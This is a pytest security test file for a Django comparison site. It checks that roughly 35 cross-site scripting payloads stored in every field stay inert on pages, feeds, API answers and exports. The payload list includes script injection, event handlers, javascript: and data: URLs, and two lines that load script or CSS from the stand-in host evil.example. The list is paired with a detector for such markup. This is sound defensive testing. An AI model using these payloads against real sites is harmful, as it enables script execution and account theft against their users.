"""Known XSS vectors typed into every user-provided field never reach a page as live markup.

Rows are stored straight through the ORM, skipping form validation, as an import or a restored
backup could. Every page type of the one list (tests/pages.py) is checked: HTML pages and
feed entries for live markup, files and API answers for being served so that no browser
renders them.
"""

import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from taggit.models import Tag

from comparisons.models import Comparison, ComparisonSegment, Dimension, Entry, Segment, Status
from tests.pages import FEED, FILE, HTML, JSON, urls

pytestmark = pytest.mark.django_db

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "![x](javascript:alert(1))",
    '<base href="javascript:alert(1)//">',
    "<<script>alert(1)//<</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "math", "style", "frame", "applet"}


class LiveMarkupFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            self.found.append(f"<script> {attributes}")
        if tag == "svg" and attributes.get("aria-hidden") != "true":
            # The only SVGs of kb are its own decorative icons.
            self.found.append(f"<svg> {attributes}")
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "base" and "href" in attributes:
            self.found.append(f"<base> {attributes}")
        if tag == "meta" and "http-equiv" in attributes:
            self.found.append(f"<meta http-equiv> {attributes}")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES:
                scheme = re.sub(r"[\x00-\x20]", "", value or "").lower()
                if scheme.startswith(("javascript:", "vbscript:", "data:")):
                    self.found.append(f"<{tag} {name}={value!r}>")


def live_markup(html: str) -> list[str]:
    finder = LiveMarkupFinder()
    finder.feed(html)
    finder.close()
    return finder.found


def hostile_comparison(number: int, vector: str) -> tuple[Comparison, Dimension, Tag]:
    comparison = Comparison.objects.create(
        title=vector, slug=f"xss-{number}", summary=vector, status=Status.PUBLISHED
    )
    dimension = Dimension.objects.create(
        comparison=comparison,
        title=vector[:120],
        slug="row",
        question=vector[:200],
        common_ground=vector,
        position=1,
        status=Status.PUBLISHED,
    )
    dimension.tags.add(vector[:100])
    for position in range(2):
        segment = Segment.objects.create(
            name=vector[:60], slug=f"s{number}-{position}", position=position
        )
        ComparisonSegment.objects.create(comparison=comparison, segment=segment, position=position)
        Entry.objects.create(
            dimension=dimension,
            segment=segment,
            body=vector,
            sources=[
                {"title": vector, "url": vector},
                {"title": vector, "url": "javascript:alert(1)"},
                {"title": "fine", "url": f"https://example.com/?q={vector}"},
            ],
        )
    return comparison, dimension, dimension.tags.get()


def _names(comparison: Comparison, dimension: Dimension, tag: Tag) -> dict[str, str]:
    """The one list's URL names for a hostile table; "alert" is a word of most vectors."""
    return {
        "comparison": comparison.slug,
        "row": dimension.slug,
        "other_row": dimension.slug,
        "tag": tag.slug,
        "word": "alert",
    }


def test_there_are_at_least_25_vectors():
    assert len(set(XSS_VECTORS)) >= 25


def test_the_finder_catches_live_markup():
    for vector in XSS_VECTORS[:8]:
        assert live_markup(vector.replace("[click](", '<a href="').replace("))", ')">x</a>'))


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_no_vector_survives_as_live_markup_on_any_public_page(client, vector):
    number = XSS_VECTORS.index(vector)
    comparison, dimension, tag = hostile_comparison(number, vector)
    for url in urls(_names(comparison, dimension, tag), HTML).values():
        response = client.get(url, follow=True)  # a filter naming the row twice: normalised
        assert response.status_code == 200, url
        assert live_markup(response.content.decode()) == [], url


def hostile_answers(client, vector: str, kind: str):
    """(url, response) for each page type of `kind`, over a table full of `vector`."""
    comparison, dimension, tag = hostile_comparison(XSS_VECTORS.index(vector), vector)
    for url in urls(_names(comparison, dimension, tag), kind).values():
        response = client.get(url)
        assert response.status_code == 200, url
        yield url, response


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_no_vector_survives_as_live_markup_in_a_feed_reader(client, vector):
    atom = "{http://www.w3.org/2005/Atom}"
    for url, response in hostile_answers(client, vector, FEED):
        entries = ET.fromstring(response.content).findall(f"{atom}entry")
        assert entries, url
        for entry in entries:
            # A feed reader renders the summary as HTML, and the title as plain text.
            assert live_markup(entry.find(f"{atom}summary").text) == [], url
            assert entry.find(f"{atom}title").text.startswith(f"{vector[:120]}: "), url


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_no_api_answer_is_served_as_a_page_a_browser_would_run(client, vector):
    for url, response in hostile_answers(client, vector, JSON):
        assert response["Content-Type"].startswith("application/json"), url
        assert response["X-Content-Type-Options"] == "nosniff"
    table = client.get(f"/api/v1/comparisons/xss-{XSS_VECTORS.index(vector)}/").json()
    assert table["comparison"]["title"] == vector  # as data, exactly as written


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_no_export_is_served_as_a_page_a_browser_would_run(client, vector):
    for url, response in hostile_answers(client, vector, FILE):
        assert "html" not in response["Content-Type"], url
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Disposition"].startswith("attachment;")
        # Source links keep only http(s) URLs; the editor's own text is left as written.
        assert "](javascript:" not in response.content.decode().replace(vector, ""), url
